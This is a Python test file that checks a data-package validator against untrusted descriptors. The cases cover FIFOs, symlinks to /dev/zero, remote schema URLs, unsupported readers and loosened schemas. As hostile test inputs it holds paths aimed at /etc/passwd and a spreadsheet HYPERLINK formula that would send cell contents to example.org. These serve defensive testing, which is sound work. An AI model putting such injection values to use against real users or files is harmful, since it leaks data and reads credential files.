"""An untrusted descriptor cannot make the validator read outside the package, block on a
special file, reach the network or loosen the rules: each attempt is one exact error line.

Like the corruption corpus, a table of cases (`CASES`), each validated with the network
refused and within a time bound; test_engines_agree.py runs it through both engines.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from conftest import read_rows, set_cell
from damage import (
    Case,
    Expected,
    csv_path,
    deadline,
    descriptor,
    edit_descriptor,
    edit_schema,
    invalid,
    params,
    resource,
    validate_cli,
)
from ukraine_talks_data._version import __version__
from ukraine_talks_data.package.schemas import table_schema
from ukraine_talks_data.validate import validate_package

POSIX = pytest.mark.skipif(os.name != "posix", reason="FIFOs, symlinks and SIGALRM")
pytestmark = POSIX


def _actors(package: Path, **changes: Any) -> None:
    edit_descriptor(package, lambda d: resource(d, "actors").update(changes))


def descriptor_schema_field(package: Path, table: str, index: int) -> str:
    path = package.parent / resource(descriptor(package), table)["schema"]
    name: str = json.loads(path.read_text())["fields"][index]["name"]
    return name


# Special files never block or crash --------------------------------------------------------


def fifo_as_a_table_does_not_hang(package: Path) -> Expected:
    os.mkfifo(package.parent / "data" / "pipe.csv")
    _actors(package, path="data/pipe.csv")
    return invalid(
        "data/pipe.csv: not-a-file: the path is not a regular file (a FIFO, socket or device is "
        "never read) (resource 'actors' in datapackage.json)"
    )


def fifo_as_a_seed_does_not_hang(package: Path) -> Expected:
    source = read_rows(csv_path(package, "sources"))[0]
    seed = package.parent / source["path"]
    seed.unlink()
    os.mkfifo(seed)
    name = next(r["name"] for r in descriptor(package)["resources"] if r["path"] == source["path"])
    return invalid(
        f"data/sources.csv:2:path: source-unreadable: the seed file is not a regular file (a "
        f"FIFO, socket or device is never read) (value: {source['path']!r})",
        f"{source['path']}: not-a-file: the path is not a regular file (a FIFO, socket or device "
        f"is never read) (resource '{name}' in datapackage.json)",
    )


def symlink_to_dev_zero_is_refused_before_reading(package: Path) -> Expected:
    (package.parent / "data" / "zero.csv").symlink_to("/dev/zero")
    _actors(package, path="data/zero.csv")
    return invalid(
        "datapackage.json::actors.path: unsafe-path: resource path leads outside the package "
        "folder (through a symlink) (value: 'data/zero.csv')"
    )


def symlink_inside_the_package_to_a_fifo(package: Path) -> Expected:
    os.mkfifo(package.parent / "data" / "pipe")
    (package.parent / "data" / "link.csv").symlink_to("pipe")
    _actors(package, path="data/link.csv")
    return invalid(
        "data/link.csv: not-a-file: the path is not a regular file (a FIFO, socket or device is "
        "never read) (resource 'actors' in datapackage.json)"
    )


def directory_as_a_table(package: Path) -> Expected:
    _actors(package, path="data")
    return invalid(
        "data: not-a-file: the path is a directory, not a file (resource 'actors' in "
        "datapackage.json)"
    )


def descriptor_that_is_a_fifo(package: Path) -> Expected:
    package.unlink()
    os.mkfifo(package)
    return invalid(
        "datapackage.json: descriptor-error: is not a regular file (a FIFO, socket or "
        "device is never read)"
    )


# Nothing reaches the network (every case runs with the network refused) ------------------


def remote_profiles_are_never_fetched(package: Path) -> Expected:
    def remote(d: dict[str, Any]) -> None:
        d["profile"] = "https://example.org/profile.json"
        d["$schema"] = "https://example.org/schema.json"
        resource(d, "actors")["profile"] = "https://example.org/resource.json"
        resource(d, "actors")["$schema"] = "https://example.org/resource-schema.json"

    edit_descriptor(package, remote)
    return Expected(0, ())


def remote_schema_or_dialect_is_refused(key: str) -> Callable[[Path], Expected]:
    def damage(package: Path) -> Expected:
        _actors(package, **{key: "https://example.org/actors.json"})
        return invalid(
            f"datapackage.json::actors.{key}: unsafe-path: {key} path is a URL; only files "
            "inside the package folder are read (value: 'https://example.org/actors.json')"
        )

    return damage


def json_schema_constraint_with_a_remote_ref_is_refused(package: Path) -> Expected:
    edit_schema(
        package,
        "actors",
        lambda s: (
            s["fields"][-1]["constraints"].__setitem__(
                "jsonSchema", {"$ref": "https://example.org/x.json"}
            )
            if "constraints" in s["fields"][-1]
            else s["fields"][-1].__setitem__(
                "constraints", {"jsonSchema": {"$ref": "https://example.org/x.json"}}
            )
        ),
    )
    last = descriptor_schema_field(package, "actors", -1)
    return invalid(
        f"schemas/actors.json::{last}.constraints.jsonSchema: schema-error: jsonSchema "
        "constraints are not supported (they can load remote schemas)"
    )


# Readers other than local UTF-8 CSV are refused, not half-honoured ------------------------


UNSUPPORTED_RESOURCE_KEYS = [
    ("compression", "zip", "compressed files are not supported; store the CSV uncompressed"),
    ("format", "xlsx", "a table must be csv"),
    ("encoding", "latin-1", "only UTF-8 is supported; convert the file to UTF-8"),
    ("scheme", "https", "only local files are read (scheme 'file')"),
    ("innerpath", "/etc/passwd", "files inside archives are not supported"),
    (
        "url",
        "https://example.org/a.csv",
        "'url' is not supported; give a relative 'path' inside the package",
    ),
    ("bytes", "many", "must be a whole number, 0 or more"),
    ("hash", "md5:zz", "must be 'sha256:' followed by 64 hex digits (or an MD5 in 32 hex digits)"),
]


def unsupported_resource_key(key: str, value: str, message: str) -> Callable[[Path], Expected]:
    def damage(package: Path) -> Expected:
        _actors(package, **{key: value})
        return invalid(
            f"datapackage.json::actors.{key}: descriptor-error: {message} (value: {value!r})"
        )

    return damage


def multipart_paths_are_refused(package: Path) -> Expected:
    _actors(package, extrapaths=["/etc/passwd"])
    return invalid(
        "datapackage.json::actors.extrapaths: descriptor-error: multipart resources are not "
        "supported; use one file per resource (value: '[\"/etc/passwd\"]')"
    )


DIALECTS: list[tuple[str, object, str]] = [
    ("commentChar", "S", "null"),
    ("delimiter", ";", '","'),
    ("header", False, "true"),
]


def dialect_other_than_canonical_csv(
    key: str, value: object, canonical: str
) -> Callable[[Path], Expected]:
    def damage(package: Path) -> Expected:
        _actors(package, dialect={"csv": {key: value}})
        shown = value if isinstance(value, str) else json.dumps(value)
        return invalid(
            f"datapackage.json::actors.dialect.{key}: dialect-error: must be {canonical}: only "
            f"the canonical CSV dialect is read (value: {shown!r})"
        )

    return damage


def resource_name_with_odd_characters(package: Path) -> Expected:
    index = next(i for i, r in enumerate(descriptor(package)["resources"]) if r["name"] == "actors")
    edit_descriptor(package, lambda d: d["resources"][index].__setitem__("name", "Actors\nX"))
    line = (
        f"datapackage.json::resources[{index}].name: descriptor-error: a resource name may hold "
        "only lowercase letters, digits, '-', '.' and '_' (value: 'Actors\\nX')"
    )
    # What follows from the renamed table is not this case's point: only the first line is.
    return Expected(1, (line,), args=("--allow-schema-changes",), then_any=True)


# Malformed schemas are errors, not tracebacks --------------------------------------------


MALFORMED_SCHEMAS: list[tuple[str, Callable[[dict[str, Any]], None], str, str]] = [
    (
        "field-not-object",
        lambda s: s["fields"].__setitem__(1, "name"),
        "fields[1]",
        "a field must be a JSON object",
    ),
    (
        "bad-pattern",
        lambda s: s["fields"][0].__setitem__("constraints", {"pattern": "(("}),
        "{0}.constraints.pattern",
        "is not a valid regular expression (missing ), unterminated subpattern at position 1) "
        "(value: '((')",
    ),
    (
        "json-type",
        lambda s: s["fields"][0].__setitem__("type", "object"),
        "{0}.type",
        "type is not supported; use one of: string, integer, number, boolean, date, datetime, "
        "time, year, yearmonth, duration, list, any (value: 'object')",
    ),
    (
        "primary-key",
        lambda s: s.__setitem__("primaryKey", ["nope"]),
        "primaryKey",
        "no field of this name (value: 'nope')",
    ),
    (
        "no-fields",
        lambda s: s.__setitem__("fields", []),
        "fields",
        "a Table Schema needs a non-empty 'fields' list",
    ),
    (
        "negative-length",
        lambda s: s["fields"][0].__setitem__("constraints", {"minLength": -1}),
        "{0}.constraints.minLength",
        "must be a whole number, 0 or more (value: '-1')",
    ),
]


def malformed_schema(
    change: Callable[[dict[str, Any]], None], location: str, message: str
) -> Callable[[Path], Expected]:
    def damage(package: Path) -> Expected:
        first = descriptor_schema_field(package, "actors", 0)
        edit_schema(package, "actors", change)
        return invalid(f"schemas/actors.json::{location.format(first)}: schema-error: {message}")

    return damage


# A fork cannot loosen the rules ------------------------------------------------------------


def _loosen_quote_type(package: Path) -> None:
    def loosen(s: dict[str, Any]) -> None:
        field = next(f for f in s["fields"] if f["name"] == "quote_type")
        field["constraints"].pop("enum")

    edit_schema(package, "statements", loosen)


def loosened_schema_is_reported_and_the_reference_still_applies(package: Path) -> Expected:
    _loosen_quote_type(package)
    number = set_cell(csv_path(package, "statements"), 0, "quote_type", "rumour")
    enum = next(f for f in table_schema("statements")["fields"] if f["name"] == "quote_type")[
        "constraints"
    ]["enum"]
    return invalid(
        f"data/statements.csv:{number}:quote_type: constraint-error: must be one of: "
        f"{', '.join(enum)} (value: 'rumour')",
        "schemas/statements.json::quote_type.constraints.enum: schema-changed: is missing; the "
        f"reference schema has {json.dumps(enum)} (ukraine-talks-data {__version__}; "
        "--allow-schema-changes skips this for a derived package)",
    )


def loosened_schema_is_accepted_with_allow_schema_changes(package: Path) -> Expected:
    _loosen_quote_type(package)
    set_cell(csv_path(package, "statements"), 0, "quote_type", "rumour")
    return Expected(0, (), args=("--allow-schema-changes",))


def dropped_table_is_reported(package: Path) -> Expected:
    edit_descriptor(
        package,
        lambda d: d.__setitem__(
            "resources", [r for r in d["resources"] if r["name"] != "evidence"]
        ),
    )
    return invalid(
        "datapackage.json::evidence: missing-resource: the package has no table of this name; "
        "the reference package has it"
    )


# Spreadsheet formulas: a warning, not an error ---------------------------------------------


FORMULA = '=HYPERLINK("https://example.org/?"&A1,"click")'


def formula_in_a_text_cell_is_a_warning(package: Path) -> Expected:
    number = set_cell(csv_path(package, "actors"), 0, "notes", FORMULA)
    return Expected(
        0,
        (
            f"data/actors.csv:{number}:notes: warning: formula-injection: a spreadsheet opening "
            "this CSV would run the cell as a formula; reword it so it does not start with '=', "
            f"'+', '-' or '@' (exports prefix such cells with ') (value: {FORMULA!r})",
        ),
    )


CASES: list[Case] = [
    Case("fifo_as_a_table_does_not_hang", fifo_as_a_table_does_not_hang),
    Case("fifo_as_a_seed_does_not_hang", fifo_as_a_seed_does_not_hang),
    Case(
        "symlink_to_dev_zero_is_refused_before_reading",
        symlink_to_dev_zero_is_refused_before_reading,
    ),
    Case("symlink_inside_the_package_to_a_fifo", symlink_inside_the_package_to_a_fifo),
    Case("directory_as_a_table", directory_as_a_table),
    Case("descriptor_that_is_a_fifo", descriptor_that_is_a_fifo),
    Case("remote_profiles_are_never_fetched", remote_profiles_are_never_fetched),
    *(
        Case(f"remote_schema_or_dialect_is_refused-{key}", remote_schema_or_dialect_is_refused(key))
        for key in ["schema", "dialect"]
    ),
    Case(
        "json_schema_constraint_with_a_remote_ref_is_refused",
        json_schema_constraint_with_a_remote_ref_is_refused,
    ),
    *(
        Case(f"unsupported_resource_keys-{key}", unsupported_resource_key(key, value, message))
        for key, value, message in UNSUPPORTED_RESOURCE_KEYS
    ),
    Case("multipart_paths_are_refused", multipart_paths_are_refused),
    *(
        Case(f"dialect_other_than_canonical_csv-{key}", dialect_other_than_canonical_csv(key, v, c))
        for key, v, c in DIALECTS
    ),
    Case("resource_name_with_odd_characters", resource_name_with_odd_characters),
    *(
        Case(f"malformed_schema-{name}", malformed_schema(change, location, message))
        for name, change, location, message in MALFORMED_SCHEMAS
    ),
    Case(
        "loosened_schema_is_reported_and_the_reference_still_applies",
        loosened_schema_is_reported_and_the_reference_still_applies,
    ),
    Case(
        "loosened_schema_is_accepted_with_allow_schema_changes",
        loosened_schema_is_accepted_with_allow_schema_changes,
    ),
    Case("dropped_table_is_reported", dropped_table_is_reported),
    Case("formula_in_a_text_cell_is_a_warning", formula_in_a_text_cell_is_a_warning),
]


@pytest.mark.parametrize("case", params(CASES))
def test_safety(package: Path, case: Case, no_network: list[str]) -> None:
    expected = case.damage(package)
    with deadline(60):
        code, lines = validate_cli(package, *expected.args)
    expected.check(code, lines)
    assert no_network == []


def test_formula_warning_leaves_the_report_valid(package: Path) -> None:
    formula_in_a_text_cell_is_a_warning(package)
    report = validate_package(package)
    assert report.valid
    assert [(i.code, i.severity) for i in report.issues] == [("formula-injection", "warning")]
